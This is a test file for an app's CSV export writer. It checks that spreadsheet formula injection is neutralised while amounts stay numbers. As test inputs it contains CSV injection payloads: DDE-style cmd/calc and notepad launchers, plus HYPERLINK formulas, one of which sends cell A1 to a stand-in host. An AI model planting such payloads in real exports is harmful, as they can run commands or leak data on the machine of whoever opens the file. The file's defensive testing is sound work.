// Issue 10 item 3: every CSV Recoup hands out goes through one writer (src/main/platform/csv.ts)
// that neutralises spreadsheet formulas (OWASP CSV injection) while keeping numbers numbers; and
// each export, fed hostile names, notes and values, writes them as text.
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { attemptEca } from '../../../src/main/capabilities/compliance';
import { csvText, FORMULA_CELL } from '../../../src/main/platform/csv';
import { importSmall } from '../accounts/fixtures';
import { setUpAndLogIn, testApp, type TestApp, sendStatements } from '../support';

let t: TestApp;
afterEach(() => t?.cleanup());

/** The cells a spreadsheet would read (the file parsed back, the byte-order mark left out). */
const cells = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('the CSV writer', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', `'=HYPERLINK("http://x.example/?"&A1,"Click")`],
    ['=1+1\nsecond line', "'=1+1\nsecond line"],
    ['Smith', 'Smith'],
    ['O’Brien-Núñez', 'O’Brien-Núñez'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('a text cell %j is written so it reads back as %j', (value, read) => {
    expect(cells(csvText(['x', 'y'], [[value, 'end']]))[1]).toEqual([read, 'end']);
  });

  it.each([
    ['-12.50', '-12.50'],
    ['0.00', '0.00'],
    ['+5', '+5'],
    ['1234.56', '1234.56'],
  ])('a plain number as text %j stays a number, unquoted and unmarked', (value, written) => {
    expect(csvText(['amount'], [[value]]).split('\r\n')[1]).toBe(written);
  });

  it('numbers are numbers; empty and absent values are empty cells; UTF-8 with a BOM, CRLF after every line', () => {
    const text = csvText(['a', 'b', 'c', 'd'], [[-3, 0, null, undefined]]);
    expect(text).toBe('\uFEFFa,b,c,d\r\n-3,0,,\r\n');
    expect(csvText(['only'], [])).toBe('\uFEFFonly\r\n');
  });

  it('the trigger test itself, case by case', () => {
    expect(['=', '+', '-', '@', '\t', '\r'].every((c) => FORMULA_CELL.test(`${c}x`))).toBe(true);
    expect(['-1', '+1', '-1.25', '12'].some((n) => FORMULA_CELL.test(n))).toBe(false);
    expect(FORMULA_CELL.test('-1e5')).toBe(true); // not a plain amount: written as text
  });
});

// The import error report's own test is in tests/unit/import/channels.test.ts (a refused "=1+2").
describe('every export, fed hostile text', () => {
  const HOSTILE_NAME = '=HYPERLINK("http://evil.example","Jane")';

  it('the registers (assistance, holds, statements, ECA attempts)', async () => {
    t = testApp({ today: '2026-11-26' });
    const admin = await setUpAndLogIn(t);
    const { jane, john, a3 } = await importSmall(t);
    t.app.store.db.prepare('UPDATE accounts SET first_statement_date = NULL').run();
    // The guarantor's name as the extract gave it; the notes as users typed them.
    t.app.store.db.prepare('UPDATE guarantors SET first_name = ? WHERE id = ?').run(HOSTILE_NAME, jane);
    await t.call(
      'fap:record',
      { guarantorId: john, status: 'pending', date: '2026-11-26', note: '@SUM(1+1)*cmd|"/C calc"!A0' },
      admin,
    );
    await t.call('holds:place', { guarantorId: john, reason: 'dispute', note: '+1+cmd|" /C notepad"!A1' }, admin);
    await sendStatements(t, admin, 'statements-csv-1');
    // Refused (and so recorded in the register) — the register's "why" is Recoup's own sentence.
    expect(() => attemptEca(t.app.store.db, a3, 'credit_report', '2026-11-26', t.app.nowIso(), null)).toThrow(
      /not allowed yet/,
    );
    const read = async (register: 'assistance' | 'holds' | 'statements' | 'eca_attempts') =>
      cells((await t.file(await t.call('registers:csv', { month: '2026-11', register }, admin))).toString('utf8'));
    expect((await read('assistance'))[1]![4]).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    expect((await read('holds'))[1]![5]).toBe(`'+1+cmd|" /C notepad"!A1`);
    const statements = await read('statements');
    expect(statements[1]![1]).toBe(`'${HOSTILE_NAME} Smith`);
    expect(statements[1]![6]).toBe('800.00'); // the amount stays a number
    for (const row of [...(await read('eca_attempts')), ...statements, ...(await read('holds'))])
      for (const cell of row) expect(FORMULA_CELL.test(cell), cell).toBe(false);
    expect(await read('eca_attempts')).toHaveLength(2); // the header and the refused attempt
  });

  it('the aging report: its amounts stay numbers', async () => {
    t = testApp();
    const admin = await setUpAndLogIn(t);
    await importSmall(t);
    const rows = cells(
      (await t.file(await t.call('reports:agingCsv', { basis: 'service_date' }, admin))).toString('utf8'),
    );
    expect(rows.at(-1)).toEqual(['total', '3', '0.00', '1200.00', '0.00', '0.00', '0.00', '800.00', '2000.00']);
    for (const row of rows) for (const cell of row) expect(cell.startsWith("'"), cell).toBe(false);
  });
});
